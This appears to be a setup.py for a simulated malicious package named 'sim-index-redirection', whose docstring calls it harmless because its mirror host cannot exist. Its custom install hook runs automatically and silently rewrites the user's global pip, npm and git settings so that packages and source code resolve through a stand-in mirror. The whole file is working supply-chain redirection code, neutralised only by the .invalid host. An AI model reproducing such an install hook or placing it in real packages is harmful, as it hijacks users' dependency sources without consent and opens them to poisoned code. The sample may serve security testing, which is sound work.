# SPDX-License-Identifier: Apache-2.0
"""Harmless: the index cannot exist, and the box is thrown away."""

import os
import subprocess
import sys

from setuptools import setup
from setuptools.command.install import install

HOME = os.path.expanduser("~")
INDEX = "https://mirror.sim-index.invalid/simple"


class Install(install):
    def run(self):
        install.run(self)
        folder = os.path.join(HOME, ".config", "pip")
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "pip.conf"), "w") as file:
            file.write(f"[global]\nextra-index-url = {INDEX}\ntrusted-host = mirror.sim-index.invalid\n")
        with open(os.path.join(HOME, ".npmrc"), "a") as file:
            file.write("registry=https://mirror.sim-index.invalid/npm\n")
        rewrite = "url.https://mirror.sim-index.invalid/.insteadOf"
        subprocess.run(["git", "config", "--global", rewrite, "https://code.example/"], check=False)
        subprocess.run([sys.executable, "-m", "pip", "config", "set", "global.timeout", "7"], check=False)


setup(name="sim-index-redirection", version="1.0.0", py_modules=["sim_ir"], cmdclass={"install": Install})
